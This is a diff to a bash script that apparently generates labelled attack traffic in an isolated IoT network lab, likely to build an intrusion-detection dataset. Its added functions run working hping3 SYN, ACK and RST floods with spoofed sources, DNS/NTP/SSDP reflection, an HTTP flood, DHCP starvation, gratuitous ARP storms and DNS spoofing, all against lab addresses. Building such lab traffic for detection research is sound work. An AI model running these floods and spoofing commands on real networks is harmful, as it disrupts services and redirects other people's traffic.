@@ -180,9 +180,15 @@ EOF2
         return 0
     fi
     sleep "$C2_PRE"
-    labelled bot-outbound-flood botnet "${IP[dvr]}" "${IP[spk]}" 8009 hping3 \
-        "flood from the infected DVR: UDP, 256-byte payloads, $BOT_FLOOD_COUNT packets" dvr 120 -- \
-        hping3 -q --udp -p 8009 -d 256 -c "$BOT_FLOOD_COUNT" -i "u$FLOOD_GAP_US" "${IP[spk]}"
+    if [[ ${BOT_SPOOF:-0} == 1 ]]; then
+        labelled bot-spoofed-flood botnet "${IP[dvr]}" "${IP[cam]}" 554 hping3 \
+            "SYN flood from the infected DVR with random spoofed source addresses (its MAC is the real sender), $BOT_FLOOD_COUNT packets" dvr 120 -- \
+            hping3 -q -S -p 554 --rand-source -c "$BOT_FLOOD_COUNT" -i "u$FLOOD_GAP_US" "${IP[cam]}"
+    else
+        labelled bot-outbound-flood botnet "${IP[dvr]}" "${IP[spk]}" 8009 hping3 \
+            "flood from the infected DVR: UDP, 256-byte payloads, $BOT_FLOOD_COUNT packets" dvr 120 -- \
+            hping3 -q --udp -p 8009 -d 256 -c "$BOT_FLOOD_COUNT" -i "u$FLOOD_GAP_US" "${IP[spk]}"
+    fi
     if [[ $WITH_BOT_SCAN == 1 ]]; then
         sleep "$C2_PRE"
         labelled bot-telnet-scan botnet "${IP[dvr]}" "$NET.0/24" "23;2323" nmap \
@@ -195,3 +201,80 @@ EOF2
         "bot on the infected DVR connects to the C2 at ${IP[atk]}:23 (Mirai hello 00000001 + id) and sends 2-byte keep-alives every ${C2_INTERVAL}s"
     kill "${PIDS[atk-httpd]}" "${PIDS[atk-c2]}" 2>/dev/null
 }
+
+# --- reflection, L4/L7 floods and LAN spoofing (scenario full2) ----------------
+# Reflection: hping3 sends requests whose source address is the victim's to a
+# lab device running the abused service, which answers the victim. The
+# attacker's MAC is the real sender of the requests; the reflector's answers
+# are the flood the victim receives.
+reflect() {
+    local label=$1 kind=$2 reflector=$3 victim=$4 port=$5 what=$6 payload
+    payload="$W/atk/$kind.bin"
+    python3 "$LAB/py/lanattack.py" payload "$kind" --name gateway.home.lan >"$payload"
+    labelled "$label" dos "${IP[atk]}" "${IP[$victim]}" "$port" hping3 \
+        "$what: $FLOOD_COUNT requests from ${IP[atk]} with the victim's address as source, to ${IP[$reflector]}:$port, whose answers flood ${IP[$victim]}" \
+        atk 120 -- hping3 -q --udp -a "${IP[$victim]}" -p "$port" -E "$payload" -d "$(stat -c %s "$payload")" \
+        $(flood_args) "${IP[$reflector]}"
+}
+
+attack_dns_reflection() { reflect dns-reflection dns gw spk 53 "DNS reflection off the gateway's dnsmasq (ANY gateway.home.lan)"; }
+attack_ntp_reflection() { reflect ntp-reflection ntp gw hub 123 "NTP reflection off the gateway's SNTP server (mode-3 requests)"; }
+attack_ssdp_reflection() { reflect ssdp-reflection ssdp hub srv 1900 "SSDP reflection off the Hue hub (unicast M-SEARCH ssdp:all, two answers each)"; }
+
+attack_hping3_ack_flood() {
+    labelled hping3-ack-flood dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
+        "TCP ACK flood (no connection), $FLOOD_COUNT packets" atk 120 -- \
+        hping3 -q -A -p 80 $(flood_args) "${IP[cam]}"
+}
+
+attack_hping3_rst_flood() {
+    labelled hping3-rst-flood dos "${IP[atk]}" "${IP[srv]}" 1883 hping3 \
+        "TCP RST flood (no connection), $FLOOD_COUNT packets" atk 120 -- \
+        hping3 -q -R -p 1883 $(flood_args) "${IP[srv]}"
+}
+
+attack_http_flood() {
+    labelled http-flood dos "${IP[atk]}" "${IP[cam]}" 80 "python lanattack.py http-flood" \
+        "HTTP GET / flood, 16 threads, one request per connection, up to $HTTP_FLOOD_COUNT requests in ${HTTP_FLOOD_SECS}s" \
+        atk 60 -- python3 "$LAB/py/lanattack.py" http-flood --target "${IP[cam]}" \
+        --count "$HTTP_FLOOD_COUNT" --seconds "$HTTP_FLOOD_SECS"
+}
+
+attack_dhcp_starvation() {
+    labelled dhcp-starvation spoofing "${IP[atk]}" "$GW_IP" "67;68" "python lanattack.py dhcp-starve" \
+        "DISCOVER+REQUEST with $DHCP_STARVE_COUNT random client MACs (chaddr) from the attacker's NIC, until dnsmasq's pool ($NET.100-199) is empty" \
+        atk 120 -- python3 "$LAB/py/lanattack.py" dhcp-starve --count "$DHCP_STARVE_COUNT" --seed "$SEED"
+}
+
+attack_garp_storm() {
+    labelled garp-storm spoofing "${IP[atk]}" "$GW_IP" "" "python lanattack.py garp-storm" \
+        "$GARP_COUNT broadcast gratuitous ARP replies claiming the gateway's address for the attacker's MAC (50/s), then 5 restoring the gateway's MAC" \
+        atk 60 -- python3 "$LAB/py/lanattack.py" garp-storm --claim "$GW_IP" --owner-mac "${MAC[gw]}" \
+        --count "$GARP_COUNT" --gap 0.02
+}
+
+# DNS spoofing needs the attacker to see the queries. The lab's switch is put
+# in hub mode (bridge ageing 0: every frame flooded to every port) for the
+# attack, standing in for a shared medium (Wi-Fi, a hub) or a switch
+# overflowed by MAC flooding; it learns again afterwards.
+attack_dns_spoofing() {
+    local start end log="$W/logs/attack-dns-spoofing.log" victims
+    echo "[lab] $(date -u +%T) attack dns-spoofing (python lanattack.py dns-spoof) ${IP[atk]}" >&2
+    nsq sw ip link set br0 type bridge ageing_time 0
+    start=$(now)
+    nsx atk timeout -k 3 $((DNS_SPOOF_SECS + 10)) python3 -u "$LAB/py/lanattack.py" dns-spoof \
+        --resolver "$GW_IP" --addr "${IP[atk]}" --seconds "$DNS_SPOOF_SECS" >>"$log" 2>&1
+    end=$(now)
+    nsq sw ip link set br0 type bridge ageing_time 30000
+    victims=$(awk '$1 == "answered" {print $2}' "$log" | sort -u | paste -sd';')
+    if [[ -z $victims ]]; then
+        echo "[lab] warning: dns-spoofing answered no query" >&2
+        return 0
+    fi
+    label_row dns-spoofing spoofing "$start" "$end" "${IP[atk]}" "$victims" 53 "python lanattack.py dns-spoof" \
+        "forged A answers (-> ${IP[atk]}) racing the gateway's dnsmasq, source address = $GW_IP; switch in hub mode for the window; $(grep -c '^answered' "$log") answers"
+}
+
+# The Mirai chain again, but the infected DVR's flood has random spoofed
+# sources: only its MAC tells who sends it.
+attack_mirai_spoofed() { BOT_SPOOF=1 attack_mirai; }
